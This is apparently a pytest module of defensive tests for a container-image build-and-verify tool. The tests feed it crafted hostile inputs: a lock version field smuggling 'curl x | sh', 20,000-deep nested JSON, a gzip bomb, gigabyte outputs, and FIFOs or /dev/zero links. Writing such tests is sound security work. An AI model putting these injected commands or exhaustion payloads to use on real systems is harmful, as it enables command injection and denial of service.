"""Hostile input on the real engine and real resolvers (see tests/unit/test_hostile.py)."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from imagesmith.render import dquote
from tests.fakes import FakeEngine
from tests.helpers import cli, fake_lock
from tests.unit.test_hostile import MAX_OUTPUT, PROJECTS, edit_lock, make_project, snapshot, spec_with  # noqa: F401
from tests.unit.test_render import LONG_VALUE, _big_lock


@pytest.mark.engine
def test_source_dot_keeps_secrets_and_clutter_out_of_the_image(tmp_path, engine, base_image):
    """`source: .` copies the project, but not .git, .env files, the artifacts folder,
    virtualenvs or caches: the generated Dockerfile.dockerignore applies to every COPY."""
    from tests.conftest import copy_project

    root = copy_project(PROJECTS / "tiny", tmp_path / "tiny")  # a git repository: .git exists
    spec_with(root, "source: ['.']\n", drop=("source",))
    (root / ".env").write_text("API_KEY=do-not-ship\n")
    (root / ".env.local").write_text("X=1\n")
    for folder in ("artifacts", ".venv/bin", "app/__pycache__", ".pytest_cache"):
        (root / folder).mkdir(parents=True, exist_ok=True)
        (root / folder / "junk").write_text("junk\n")
    (root / ".dockerignore").write_text("notes.txt\n")
    (root / "notes.txt").write_text("private notes\n")
    proc = cli(
        "build", "-p", str(root), "--base", base_image, "--tag", "imagesmith-test/hostile-ignore", "--target", "serve"
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert (root / "Dockerfile.dockerignore").is_file()
    listing = engine.run(
        "imagesmith-test/hostile-ignore:serve", ["-c", "cd /app && find . | sort"], entrypoint=["sh"]
    ).split()
    assert "./app/main.py" in listing and "./imagesmith.yaml" in listing, listing
    for gone in (
        "./.git",
        "./.env",
        "./.env.local",
        "./artifacts",
        "./.venv",
        "./app/__pycache__",
        "./.pytest_cache",
        "./notes.txt",
    ):
        assert gone not in listing, (gone, listing)


def _wrong_type_labels(base_id: str) -> str:
    """An image whose manifest label is JSON of the wrong shape, hashing to its parity label."""
    from imagesmith import parity
    from tests.helpers import facts_copy

    manifest = {
        "imagesmith_parity": 2,
        "base": "sha256:" + "a" * 64,
        "python": "3.11",
        "platform": "linux/amd64",
        "packages": ["six"],
        "system_packages": {"a": 1},
        "preprocessing": [],
        "preprocessing_version": 3,
        "seed": "7",
        "determinism": "yes",
        "env": {"A": ["x"]},
    }
    facts = {"manifest": manifest, "configs": {}, "steps": []}
    return f"{facts_copy(facts)}LABEL io.imagesmith.parity={dquote(parity.digest(manifest))} io.imagesmith.role=serve\n"


@pytest.mark.engine
def test_labels_of_the_wrong_type_are_reported_not_tripped_over(crafted):
    """An image whose manifest label is JSON of the wrong shape (hashing to its parity label):
    verify says NOT verified, inspect refuses it; neither shows a traceback."""
    tag = crafted["hostile-labels"]
    for argv, codes in (
        (("verify", tag, "--labels-only"), (1,)),
        (("verify", tag), (1,)),
        (("inspect", tag), (2,)),
        (("diff", tag, tag, "--labels-only"), (2,)),
    ):
        proc = cli(*argv, check_traceback=False, in_process=True)  # an escaping exception fails it
        output = proc.stdout + proc.stderr
        assert proc.returncode in codes and "Traceback" not in output, (argv, output[-3000:])
        assert len(output.encode()) < MAX_OUTPUT, output


@pytest.mark.engine
def test_build_refuses_a_tampered_lock(tmp_path, engine, base_image):
    """`build` (not only `build --locked`) refuses a lock whose system package version carries
    shell: nothing is rendered, built or rewritten."""
    root = make_project(tmp_path / "p")
    edit_lock(root, lambda d: {**d, "system_packages": [{"name": "libgomp1", "version": "1 ; curl x | sh"}]})
    before = snapshot(root)
    proc = cli(
        "build", "-p", str(root), "--base", base_image, "--tag", "imagesmith-test/hostile-lock", check_traceback=False
    )
    assert proc.returncode == 2 and "system_packages[0].version" in proc.stderr, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr and len(proc.stderr) < MAX_OUTPUT
    assert snapshot(root) == before


class _SdistEngine(FakeEngine):
    """The shared fake; pip-compile "in the base" (run_to_end) answers with a docopt pin. The rest
    is the real uv / pip on the host."""

    def run_to_end(self, image, what, timeout, **create):
        run = super().run_to_end(image, what, timeout, **create)
        out = next(Path(h) for h, v in create["volumes"].items() if v["bind"] == "/out")
        (out / "requirements.lock").write_text("docopt==0.6.2 \\\n    --hash=sha256:" + "d" * 64 + "\n")
        return run


@pytest.mark.engine
def test_uv_resolves_an_sdist_only_requirement_in_the_base_not_on_the_host(tmp_path):
    from imagesmith.lock.request import ResolveRequest
    from imagesmith.lock.uv_resolver import UvResolver

    req = tmp_path / "requirements.in"
    req.write_text("docopt==0.6.2\n")
    engine = _SdistEngine()
    pins = UvResolver(engine).resolve(
        ResolveRequest(
            inputs=(req,), extras=(), python="3.11", platform="linux/amd64", base_ref="base@sha256:" + "a" * 64
        )
    )
    compiles = engine.called("run_to_end")
    assert [c[1] for c in compiles] == ["base@sha256:" + "a" * 64] and [p.name for p in pins] == ["docopt"]


@pytest.mark.engine
def test_the_host_downloads_wheels_only_and_leaves_sdists_to_the_base(tmp_path):
    from imagesmith.lock.pins import Pin
    from imagesmith.wheels import WheelCache

    docopt = Pin("docopt", "0.6.2", ("sha256:49b3a825280bd66b3aa83585ef59c4a8c82f2c8a522dbe754a8bc8d08c85c491",))
    six = Pin("six", "1.17.0", ("sha256:4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274",))
    engine = _SdistEngine()
    cache = WheelCache(tmp_path / "cache", engine=engine)
    cache._download([docopt, six], replace(fake_lock(), packages=(docopt, six)))
    assert [p.name for p in (tmp_path / "cache" / "wheels").glob("*/*")] == ["six-1.17.0-py2.py3-none-any.whl"]
    ((_, image, kwargs),) = engine.called("run")
    argv = kwargs["command"]
    assert image == fake_lock().base.ref and argv[:3] == ["python3", "-m", "pip"]
    assert "--no-binary" in argv and "docopt" in argv and kwargs["network"] is True


@pytest.mark.engine
def test_a_manifest_over_64_kib_passes_buildkits_parser_and_reads_back_whole(tmp_path, engine, base_image, crafted):
    """BuildKit refuses a Dockerfile line over 64 KiB (a heredoc's too), and a real ML stack's
    parity manifest is longer. On the real parser: a long value dquote continued over lines is
    the label's exact value, and the rendered Dockerfile of such a lock parses and copies the image
    facts (a file in .imagesmith/, never in the Dockerfile) that read back as the same manifest.
    The facts stage's file is exported alone (a scratch stage added after the rendered text), so
    no image is made, or removed, for it."""
    import json
    import subprocess

    from imagesmith import parity
    from imagesmith.layout import FACTS_FILE
    from imagesmith.render import context_files, render
    from imagesmith.spec.load import load_spec

    assert engine.image(crafted["long-label"]).labels["x"] == LONG_VALUE
    lock = _big_lock()
    context = tmp_path / "rendered"
    context.mkdir()
    spec = load_spec(PROJECTS / "tiny")
    rendered = render(spec, lock)
    (context / "Dockerfile").write_text(rendered + "\nFROM scratch AS facts-only\nCOPY --from=image-facts /facts/ /\n")
    for rel, data in context_files(spec, {lock.platform: lock}).items():
        (context / rel).parent.mkdir(parents=True, exist_ok=True)
        (context / rel).write_bytes(data)
    argv = [
        "docker",
        "buildx",
        "build",
        "-q",
        "--target",
        "facts-only",
        "--output",
        f"type=local,dest={tmp_path / 'out'}",
    ]
    argv += ["--build-arg", f"IMAGESMITH_BASE={base_image}", str(context)]
    proc = subprocess.run(argv, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert json.loads((tmp_path / "out" / FACTS_FILE).read_text())["manifest"] == parity.manifest_from_lock(lock)


# --------------------------------------------------------------------------------------------
# Hostile images: small crafted images (FROM the base, a few layers) that try to crash, hang or
# exhaust `imagesmith verify`. Each is built for real; verify runs as a subprocess whose peak
# memory is measured, and must end within bounded time with exit != 0, at most one `error:`
# line, no traceback, and one JSON document under --json.

MAX_RSS_KIB = 300 * 1024
DEEP = 20_000


def measured_verify(*args: str) -> dict:
    """`imagesmith verify ARGS` in a subprocess: its exit code, output, peak RSS (KiB, the
    largest of the process and what it ran: ``wait4``'s, which counts the children it waited
    for) and seconds. Killed after 300 s (the seconds then say so)."""
    import os
    import subprocess
    import sys
    import threading
    import time

    started = time.monotonic()
    proc = subprocess.Popen(
        [sys.executable, "-m", "imagesmith", "verify", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=dict(os.environ),
    )
    output: dict[str, bytes] = {}
    readers = [
        threading.Thread(target=lambda name=name, stream=stream: output.__setitem__(name, stream.read()))
        for name, stream in (("stdout", proc.stdout), ("stderr", proc.stderr))
    ]
    for reader in readers:
        reader.start()
    timer = threading.Timer(300, proc.kill)
    timer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        timer.cancel()
    proc.returncode = os.waitstatus_to_exitcode(status)  # reaped here: Popen must not wait again
    for reader in readers:
        reader.join()
    for stream in (proc.stdout, proc.stderr):
        stream.close()  # type: ignore[union-attr]
    return {
        "code": proc.returncode,
        "stdout": output["stdout"].decode(errors="replace"),
        "stderr": output["stderr"].decode(errors="replace"),
        "rss_kib": usage.ru_maxrss,
        "seconds": time.monotonic() - started,
    }


def imagesmith_labels(base_id: str, **overrides: str) -> str:
    """The lines of an image that claims to be imagesmith's: a facts file whose manifest hashes to
    its parity label, of the base, role serve; ``overrides``: label name (with _ for .) -> raw value."""
    from imagesmith import parity
    from imagesmith.render import dquote
    from tests.helpers import facts_copy

    manifest = {
        "imagesmith_parity": 2,
        "base": base_id,
        "python": "3.11",
        "platform": "linux/amd64",
        "packages": {},
        "system_packages": {},
        "preprocessing": {},
        "preprocessing_version": None,
        "seed": 0,
        "determinism": False,
        "env": {},
        "runtime": None,
    }
    labels = {"io.imagesmith.parity": parity.digest(manifest), "io.imagesmith.role": "serve"}
    labels.update({k.replace("_", "."): v for k, v in overrides.items()})
    facts = {"manifest": manifest, "parity": labels["io.imagesmith.parity"], "configs": {}, "steps": [], "seed": 0}
    return facts_copy(facts) + "".join(f"LABEL {name}={dquote(value)}\n" for name, value in labels.items())


def _python_script(body: str) -> str:
    """RUN lines that make /opt/venv/bin/python a shell script running ``body`` (the probe runs it)."""
    return (
        "RUN mkdir -p /opt/venv/bin && printf '#!/bin/sh\\n%s\\n' " + _sh_quote(body) + " > /opt/venv/bin/python"
        " && chmod +x /opt/venv/bin/python\n"
    )


def _sh_quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def _deep(n: int = DEEP) -> str:
    return "[" * n + "]" * n


HOSTILE_IMAGES = {
    # a label nested 20,000 deep: the platforms (the only JSON label imagesmith reads but the user's)
    "deep-platforms-label": (  # read by the model check (`--model`)
        lambda b: imagesmith_labels(b, io_imagesmith_platforms=_deep()),
        "model: label io.imagesmith.platforms is not JSON imagesmith reads",
    ),
    # the image-facts file nested 20,000 deep
    "deep-facts-file": (
        lambda b: (
            imagesmith_labels(b) + "RUN python3 -c \"print('['*20000+']'*20000)\" > /opt/venv/imagesmith_image.json\n"
        ),
        "imagesmith_image.json in the image is not JSON imagesmith reads: nested more than",
    ),
    # the probe's report: nested 20,000 deep, of the wrong shape, 1 GiB long
    "deep-probe-report": (
        lambda b: (
            imagesmith_labels(b)
            + "RUN python3 -c \"print('['*20000+']'*20000)\" > /report.json\n"
            + _python_script("cat /report.json")
        ),
        "the content probe's report from",
    ),
    "wrong-shape-probe-report": (
        lambda b: (
            imagesmith_labels(b)
            + _python_script('echo \'{"probe": 1, "python": "3.11.2", "distributions": {"six": {"files": "many"}}}\'')
        ),
        "is not of the probe's shape",
    ),
    # an image-facts file over MAX_FACTS (4 MiB): refused by its size, not read
    "five-mib-facts-file": (
        lambda b: (
            imagesmith_labels(b) + "RUN head -c 5242880 /dev/zero | tr '\\0' ' ' >> /opt/venv/imagesmith_image.json\n"
        ),
        "imagesmith_image.json in the image is more than 4 MiB: not read",
    ),
    "gigabyte-probe-report": (
        lambda b: imagesmith_labels(b) + _python_script("head -c 1073741824 /dev/zero"),
        "the content probe printed more than 32 MiB",
    ),
    # /etc/ld.so.preload as a folder of 1,500 files of 1 MiB (sparse: the layer is small)
    "preload-folder": (
        lambda b: (
            imagesmith_labels(b)
            + "RUN mkdir /etc/ld.so.preload && for i in $(seq 1500); do truncate -s 1M /etc/ld.so.preload/f$i; done\n"
        ),
        "/etc/ld.so.preload is a dir, not a file (not in the base)",
    ),
}


def _facts_padding(size: int) -> str:
    """A RUN line appending ``size`` bytes of JSON whitespace to the image's facts file."""
    return f"RUN head -c {size} /dev/zero | tr '\\0' ' ' >> /opt/venv/imagesmith_image.json\n"


# the crafted images the module's tests only read: name -> the Dockerfile's lines after FROM the base
CRAFTED = {
    **{f"hostile-{case}": make for case, (make, _) in HOSTILE_IMAGES.items()},
    "hostile-model-folder": lambda b: imagesmith_labels(b),
    "hostile-facts-small": lambda b: imagesmith_labels(b) + _facts_padding(0),
    "hostile-facts-2-mib": lambda b: imagesmith_labels(b) + _facts_padding(2 << 20),
    "hostile-labels": _wrong_type_labels,
    # a label value over BuildKit's 64 KiB line limit, dquote continued over lines
    "long-label": lambda b: f"LABEL x={dquote(LONG_VALUE)}\n",
}


@pytest.fixture(scope="module")
def crafted(engine, base_image, tmp_path_factory) -> dict[str, str]:
    """Each ``CRAFTED`` image built once for the module (name -> tag), side by side: independent
    small builds FROM the base, most of each BuildKit's start-up and export (as test_drift.py's).
    Reproducibly (a fixed SOURCE_DATE_EPOCH, no provenance attestation): a build whose steps are
    cached gives the image its tag already names, so the tag does not move and the engine does not
    delete the last run's image (each such deletion runs its garbage collection: 6-13 s today)."""
    import subprocess
    from concurrent.futures import ThreadPoolExecutor

    from tests.conftest import FIXED_EPOCH

    root = tmp_path_factory.mktemp("crafted")
    base_id = engine.image(base_image).id
    tags = {name: f"imagesmith-test/{name}" for name in CRAFTED}

    def build(name: str) -> None:
        context = root / name
        context.mkdir()
        (context / "Dockerfile").write_text(f"FROM {base_image}\n{CRAFTED[name](base_id)}")
        argv = ["docker", "buildx", "build", "-q", "--load", "--provenance=false", "-t", tags[name]]
        argv += ["--build-arg", f"SOURCE_DATE_EPOCH={FIXED_EPOCH}", str(context)]
        subprocess.run(argv, check=True, capture_output=True, text=True)

    with ThreadPoolExecutor(max_workers=4) as pool:
        list(pool.map(build, CRAFTED))
    return tags


@pytest.mark.engine
@pytest.mark.parametrize("case", sorted(HOSTILE_IMAGES))
def test_a_hostile_image_cannot_crash_hang_or_exhaust_verify(tmp_path, crafted, case):
    import json

    _, cause = HOSTILE_IMAGES[case]
    tag = crafted[f"hostile-{case}"]
    (tmp_path / "model").mkdir()
    for as_json in (False, True):
        run = measured_verify(tag, "--model", str(tmp_path / "model"), *(["--json"] if as_json else []))
        output = run["stdout"] + run["stderr"]
        assert run["code"] in (1, 2), (case, run["code"], output[-3000:])
        assert "Traceback" not in output and "RecursionError" not in output, output[-3000:]
        assert run["stderr"].count("error:") <= 1 and len(output.encode()) < 64 * 1024, output[-3000:]
        assert run["rss_kib"] < MAX_RSS_KIB, (case, run["rss_kib"])
        assert run["seconds"] < 120, (case, run["seconds"])
        if cause:
            assert cause in output, (case, output[-3000:])
        if as_json:
            doc = json.loads(run["stdout"])
            assert doc["imagesmith_json"] == 1
            assert ("error" in doc and doc["exit"] == run["code"] == 2) or (doc["ok"] is False and run["code"] == 1)
        else:
            assert run["stderr"].startswith("error: ") or "NOT verified" in run["stdout"], output[-3000:]


@pytest.mark.engine
@pytest.mark.registry
@pytest.mark.parametrize("case", ["config-17-mib", "manifest-5000-deep"])
def test_a_hostile_registry_answer_is_one_error(registry, case):
    """What a registry serves is pushed by anyone with push rights: an image config of 17 MiB
    (a label that large) and a manifest with a field nested 5,000 deep (the registry's own parser
    takes it) are refused in bounded memory, with one error line."""
    import json
    import uuid

    from tests.registry_api import put_image

    repo = f"{registry}/imagesmith-test/hostile-registry-{uuid.uuid4().hex[:8]}"
    config = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": []}}
    if case == "config-17-mib":
        put_image(repo, "x", json.dumps({**config, "config": {"Labels": {"big": "x" * (17 << 20)}}}).encode())
        cause = "is more than 16 MiB: not read"
    else:
        put_image(repo, "x", json.dumps(config).encode(), '"x-imagesmith-test": ' + "[" * 5000 + "]" * 5000)
        cause = "nested more than 32 deep"
    for as_json in (False, True):
        run = measured_verify(f"{repo}:x", *(["--json"] if as_json else []))
        output = run["stdout"] + run["stderr"]
        assert run["code"] == 2 and cause in run["stderr"], output[-3000:]
        assert "Traceback" not in output and run["stderr"].count("error:") == 1, output[-3000:]
        assert run["rss_kib"] < MAX_RSS_KIB and run["seconds"] < 120, run
        if as_json:
            assert json.loads(run["stdout"])["exit"] == 2


@pytest.fixture(scope="module")
def stamped_model(engine, crafted, tmp_path_factory) -> Path:
    """A model folder stamped for the crafted ``hostile-model-folder`` image (``imagesmith_labels``),
    which holds: each model-folder attack starts from a copy of it. Checked once here, the baseline
    each attack is measured against (the image's other checks fail: a crafted image)."""
    from imagesmith import parity
    from imagesmith.runtime import stamp
    from tests.helpers import image_facts

    tag = crafted["hostile-model-folder"]
    manifest = parity.parse_manifest(parity.canonical(image_facts(engine, tag)["manifest"]))
    model = tmp_path_factory.mktemp("stamped") / "model"
    model.mkdir()
    (model / "model.bin").write_bytes(b"weights")
    facts = {"parity": parity.digest(manifest), "manifest": manifest, "seed": 0}
    stamp.write_stamp(str(model), stamp.make_stamp(facts, str(model)))
    assert _model_lines(tag, model)[1] == []
    return model


def _model_lines(tag: str, model: Path, *extra: str) -> tuple[int, list[str]]:
    """`verify TAG --labels-only --model MODEL --json`, measured: its exit code and model: lines."""
    import json

    run = measured_verify(tag, "--labels-only", "--model", str(model), "--json", *extra)
    assert run["seconds"] < 60 and run["rss_kib"] < MAX_RSS_KIB, run
    doc = json.loads(run["stdout"])
    return run["code"], [p for p in doc["problems"] if p.startswith("model:")]


@pytest.mark.engine
@pytest.mark.parametrize("attack", ["extra-file", "extra-folder", "link-to-dev-zero", "fifo", "stamp-is-a-fifo"])
def test_a_model_folder_holds_only_the_stamped_regular_files(tmp_path, crafted, stamped_model, attack):
    """`verify IMAGE --model DIR` on a real image: a file the stamp does not list (also in a
    sub-folder) is refused unless --allow-extra-files; a link to /dev/zero or a FIFO in the folder, or
    as the stamp, is refused at once (the old code hung on them or ran out of memory). Each attack
    is made on a copy of ``stamped_model``, which holds."""
    import os
    import shutil

    from imagesmith.runtime import stamp

    tag = crafted["hostile-model-folder"]
    model = Path(shutil.copytree(stamped_model, tmp_path / "model"))
    if attack == "extra-file":
        (model / "plugin.py").write_text("import os\n")
    elif attack == "extra-folder":
        (model / "sub").mkdir()
        (model / "sub" / "plugin.py").write_text("import os\n")
    elif attack == "link-to-dev-zero":
        os.symlink("/dev/zero", model / "zero.bin")
    elif attack == "fifo":
        os.mkfifo(model / "pipe.bin")
    else:
        (model / stamp.STAMP_FILE).unlink()
        os.mkfifo(model / stamp.STAMP_FILE)
    code, lines = _model_lines(tag, model)
    cause = {
        "extra-file": "that the stamp does not list (added since training): plugin.py",
        "extra-folder": "that the stamp does not list (added since training): sub/plugin.py",
        "link-to-dev-zero": "zero.bin is a symbolic link: a model folder holds regular files only",
        "fifo": "pipe.bin is a FIFO: a model folder holds regular files only",
        "stamp-is-a-fifo": "is a FIFO, not a regular file",
    }[attack]
    assert code == 1 and any(cause in line for line in lines), lines
    if attack.startswith("extra"):
        assert _model_lines(tag, model, "--allow-extra-files")[1] == []


def _tar_of(path: str, data: bytes | None = None, size: int | None = None) -> bytes:
    """A layer's tar holding one regular file ``path``: ``data``, or ``size`` zero bytes."""
    import io
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo(path.lstrip("/"))
        member.size = len(data) if data is not None else int(size or 0)
        archive.addfile(member, io.BytesIO(data if data is not None else bytes(member.size)))
    return out.getvalue()


@pytest.mark.engine
@pytest.mark.registry
@pytest.mark.parametrize("case", ["gzip-bomb", "diff-id-lie", "facts-5000-deep", "facts-not-json"])
def test_a_hostile_facts_layer_written_to_the_registry_is_one_bounded_refusal(registry, case):
    """`verify --labels-only` of a registry image reads only its top layer's blob (the image
    facts), straight from the registry. Someone with push rights writes that blob: a gzip bomb
    (64 MiB of zeros in 64 KiB), a blob whose tar is not the diff ID the config claims, a facts
    file nested 5,000 deep, one that is not JSON. Each is refused with its cause, in bounded memory
    and time, one error at most, never a traceback."""
    import gzip
    import hashlib
    import json
    import uuid

    from imagesmith.layout import FACTS_PATH, LABEL_PARITY
    from tests.registry_api import put_layered_image

    repo = f"{registry}/imagesmith-test/hostile-facts-{uuid.uuid4().hex[:8]}"
    gzip_media = "application/vnd.oci.image.layer.v1.tar+gzip"
    if case == "gzip-bomb":
        tar = _tar_of(FACTS_PATH, size=64 << 20)
        layer = (gzip.compress(tar, mtime=0), gzip_media, "sha256:" + hashlib.sha256(tar).hexdigest())
        cause = "unpacks to more than"
    elif case == "diff-id-lie":
        tar = _tar_of(FACTS_PATH, b"{}")
        layer = (gzip.compress(tar, mtime=0), gzip_media, "sha256:" + "0" * 64)
        cause = "is not the image config's last layer"
    else:
        text = b"[" * 5000 + b"]" * 5000 if case == "facts-5000-deep" else b"\x00not json"
        tar = _tar_of(FACTS_PATH, text)
        layer = (gzip.compress(tar, mtime=0), gzip_media, "sha256:" + hashlib.sha256(tar).hexdigest())
        cause = "nested more than" if case == "facts-5000-deep" else "imagesmith_image.json"
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": {"Labels": {LABEL_PARITY: "sha256:" + "1" * 64, "io.imagesmith.role": "serve"}},
    }
    put_layered_image(repo, "x", config, [layer])
    for as_json in (False, True):
        run = measured_verify(f"{repo}:x", "--labels-only", *(["--json"] if as_json else []))
        output = run["stdout"] + run["stderr"]
        assert run["code"] in (1, 2), (case, output[-3000:])
        assert cause in output, (case, output[-3000:])
        assert "Traceback" not in output and run["stderr"].count("error:") <= 1, output[-3000:]
        assert len(output.encode()) < 64 * 1024, output[-3000:]
        assert run["rss_kib"] < MAX_RSS_KIB and run["seconds"] < 60, (case, run)
        if as_json:
            doc = json.loads(run["stdout"])
            assert doc["exit"] == run["code"] if "exit" in doc else doc["ok"] is False


@pytest.mark.engine
def test_a_facts_file_over_a_mebibyte_reads_as_the_registry_read_does(engine, crafted):
    """The facts file is bounded at MAX_FACTS (4 MiB) wherever it is read: a local image's used to
    be cut at the engine reader's 1 MiB for "small" files, so a large stack's facts (the same file a
    registry read accepts) made a local verify fail. The same facts padded with 2 MiB of JSON
    whitespace give the same verify verdict as padded with none (the same layers either way)."""
    import json

    docs = {}
    for name in ("facts-small", "facts-2-mib"):
        proc = cli("verify", crafted[f"hostile-{name}"], "--labels-only", "--json", in_process=True)
        docs[name] = json.loads(proc.stdout)
        docs[name]["code"] = proc.returncode
    read = engine.read_paths(crafted["hostile-facts-2-mib"], ["/opt/venv/imagesmith_image.json"], small=8 << 20)
    assert len(read["/opt/venv/imagesmith_image.json"][0].data) > 2 << 20

    def without_names(doc):
        doc = json.loads(json.dumps(doc).replace("facts-2-mib", "facts-small"))
        return {key: value for key, value in doc.items() if key not in ("id", "digest", "ref")}

    assert without_names(docs["facts-2-mib"]) == without_names(docs["facts-small"]), docs
